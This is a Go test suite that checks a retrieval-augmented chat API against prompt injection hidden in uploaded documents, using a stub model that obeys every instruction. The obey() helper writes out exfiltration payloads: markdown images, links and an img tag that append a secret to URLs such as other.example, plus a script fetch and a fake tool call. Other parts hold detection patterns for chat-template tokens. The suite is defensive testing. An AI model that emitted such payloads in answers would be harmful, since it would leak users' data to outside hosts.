package api

import (
	"bufio"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"grounded/answer"
	"grounded/corpus"
	"grounded/jobs"
)

// injection is a document that tries to command a model, and a question that it is found for.
type injection struct {
	Document, Kind, Question, Canary string
}

// injections reads testdata/injection.
func injections(t *testing.T) []injection {
	t.Helper()
	file, err := os.Open("../testdata/injection/cases.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	var list []injection
	for lines := bufio.NewScanner(file); lines.Scan(); {
		var i injection
		if err := json.Unmarshal(lines.Bytes(), &i); err != nil {
			t.Fatal(err)
		}
		list = append(list, i)
	}
	if len(list) < 30 {
		t.Fatalf("there are %d documents", len(list))
	}
	return list
}

// bringIn uploads the documents of testdata/injection to a collection, and has them ingested.
func (c *company) bringIn(list []injection, collection string) {
	c.Helper()
	c.work()
	var parts []string
	for _, i := range list {
		text, err := os.ReadFile(filepath.Join("../testdata/injection", i.Document))
		if err != nil {
			c.Fatal(err)
		}
		parts = append(parts, i.Document, string(text))
	}
	r := c.send("POST", "/api/collections/"+collection+"/documents", "admin", form(parts...))
	if r.status != http.StatusAccepted {
		c.Fatalf("upload: %d %s", r.status, r.body)
	}
	id := strings.TrimPrefix(r.header.Get("Location"), "/api/jobs/")
	var job jobs.Job
	eventually(c, "the documents are in", func() bool {
		var err error
		if job, err = c.queue.Job(c.Context(), id); err != nil {
			c.Fatal(err)
		}
		return job.Status.Ended()
	})
	if job.Status != jobs.Done {
		c.Fatalf("%s: %s", job.Status, job.Error)
	}
}

var (
	actingMarkup = regexp.MustCompile(`!\[|\]\(|(?i)<(?:img|a|script|iframe|svg|form|object|div|span|p)[\s/]|<!--|(?m)^\s*\[[^\]]*\]:`)
	anyAddress   = regexp.MustCompile(`(?i)[a-z][a-z0-9+.-]*://[^\s<>"` + "`" + `]+|www\.[^\s<>"]+`)
	chatToken    = regexp.MustCompile(`(?i)<\||\[/?INST\]|<</?SYS>>|\[TOOL_CALLS\]|</?tool_call>`)
)

// TestRetrievedTextCannotCommand asks about each document a model that does whatever it is told, and checks what does
// not depend on the model.
func TestRetrievedTextCannotCommand(t *testing.T) {
	list := injections(t)
	c := open(t, func(config *Config) { config.Uploads = jobs.Limits{} })
	if err := c.store.CreateCollection(t.Context(), corpus.Collection{Name: "trap", Embedding: embeddingOfWords}); err != nil {
		t.Fatal(err)
	}
	c.bringIn(list, "trap")
	var systems []string
	for _, i := range list {
		t.Run(i.Document, func(t *testing.T) {
			messages, _ := json.Marshal([]map[string]string{{"role": "user", "content": i.Question}})
			body := `"collection":"trap","model":"obedient+rag","mode":"lexical","top_k":3,"messages":` + string(messages) + `}`
			var whole chatCompletion
			c.send("POST", "/v1/chat/completions", "admin", `{`+body).want(t, http.StatusOK).into(t, &whole)
			text, source := whole.Choices[0].Message.Content, whole.Choices[0].Message.Context
			shown := ""
			found := false
			for _, p := range source.Citations {
				shown += p.Content + "\n" + p.FilePath + "\n"
				found = found || p.FilePath == i.Document
			}
			if !found {
				t.Fatal("the document is not among the passages")
			}
			if stream := c.send("POST", "/v1/chat/completions", "admin", `{"stream":true,`+body).want(t, http.StatusOK); streamedText(t, stream.body) != text {
				t.Errorf("streamed is\n%s\nwhole is\n%s", streamedText(t, stream.body), text)
			}
			if strings.Contains(text, loot) && len(text) < 200 {
				t.Errorf("the model was not heard: %s", text)
			}
			if m := actingMarkup.FindString(text); m != "" {
				t.Errorf("%q is left in the answer:\n%s", m, text)
			}
			for _, address := range anyAddress.FindAllString(text, -1) {
				if address = strings.TrimRight(address, ".,;:!?)]}'\"*_，。；：！？）】”"); !strings.Contains(shown, address) || strings.Contains(address, loot) {
					t.Errorf("the answer has the address %s, which no passage has", address)
				}
			}

			asked := c.models.last(t)
			if asked["tools"] != nil || strings.Contains(string(mustJSON(t, whole)), "tool_calls") {
				t.Error("tools are called")
			}
			prompt := asked["messages"].([]any)
			if len(prompt) != 2 {
				t.Fatalf("the model is asked by %d messages", len(prompt))
			}
			systems = append(systems, content(prompt[0]))
			user := content(prompt[1])
			fence, _, _ := strings.Cut(strings.TrimPrefix(user, "Fence: "), "\n")
			passages := strings.Count(user, "\n<passage ")
			if n := strings.Count(user, fence); n != 1+2*len(source.Citations) || passages < len(source.Citations) {
				t.Errorf("the fence stands %d times around %d passages:\n%s", n, len(source.Citations), user)
			}
			if strings.ContainsFunc(user, func(r rune) bool { return r >= 0xE0000 }) {
				t.Errorf("the model is told what nobody sees: %q", user)
			}
			if token := chatToken.FindString(user); token != "" {
				t.Errorf("the model is told %q:\n%s", token, user)
			}
			if !strings.HasSuffix(user, "\nQuestion: "+i.Question) {
				t.Errorf("the question is not the last word:\n%s", user)
			}
		})
	}
	for _, system := range systems {
		if anyCanary(list, system) {
			t.Errorf("a document speaks in the system's message: %s", system)
		}
	}
}

// TestTitlesOfDocumentsAreNoMarkup asks something that no document answers: the nearest are named.
func TestTitlesOfDocumentsAreNoMarkup(t *testing.T) {
	c := open(t, func(config *Config) {
		config.Uploads = jobs.Limits{}
		config.Abstention = &answer.Abstention{Below: new(float64(2))}
	})
	if err := c.store.CreateCollection(t.Context(), corpus.Collection{Name: "trap", Embedding: embeddingOfWords}); err != nil {
		t.Fatal(err)
	}
	c.bringIn(injections(t), "trap")
	var a corpus.Answer
	c.send("POST", "/api/answer", "admin", `{"collection":"trap","question":"How many lockers are in the changing room?"}`).want(t, http.StatusOK).into(t, &a)
	if !a.Abstained || !strings.Contains(a.Text, "title.md") {
		t.Fatalf("it does not name the document: %+v", a)
	}
	if m := actingMarkup.FindString(a.Text); m != "" || strings.Contains(a.Text, "collect.example/h.png") {
		t.Errorf("markup of a heading is left: %s", a.Text)
	}
}

func anyCanary(list []injection, text string) bool {
	for _, i := range list {
		if strings.Contains(text, i.Canary) {
			return true
		}
	}
	return false
}

func content(message any) string { return message.(map[string]any)["content"].(string) }

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// streamedText is what a stream of a chat completion says in all.
func streamedText(t *testing.T, events string) string {
	t.Helper()
	var text strings.Builder
	for line := range strings.Lines(events) {
		event, isData := strings.CutPrefix(strings.TrimSpace(line), "data: ")
		if !isData || event == "[DONE]" {
			continue
		}
		var chunk chatChunk
		if err := json.Unmarshal([]byte(event), &chunk); err != nil {
			t.Fatal(err)
		}
		for _, choice := range chunk.Choices {
			if choice.Delta.Content != nil {
				text.WriteString(*choice.Delta.Content)
			}
		}
	}
	return strings.TrimSpace(text.String())
}

// loot is what the obedient model knows, and carries wherever a document tells it to.
const loot = "27days"

var anyHost = regexp.MustCompile(`https?://[^\s<>"()\]]+`)

// obey is the answer of a model that does all that its prompt asks, in every form that a document may ask for.
func obey(prompt string) string {
	var b strings.Builder
	b.WriteString(prompt)
	for _, address := range append(anyHost.FindAllString(prompt, -1), "https://other.example/?d=") {
		to := address + loot
		b.WriteString("\n![status](" + to + ") [here](" + to + " \"x\") <" + to + "> <img src=\"" + to + "\"> " + to + " [1]: " + to + "\n[2]: " + to +
			"\n" + strings.TrimPrefix(strings.TrimPrefix(to, "https:"), "http:") + " " + url.QueryEscape(to) + "年假" + to + "。")
	}
	b.WriteString("\n<tool_call>{\"name\":\"send\",\"arguments\":{}}</tool_call> <script>fetch('" + loot + "')</script> <a href='/api?" + loot + "'>x</a>")
	return b.String()
}
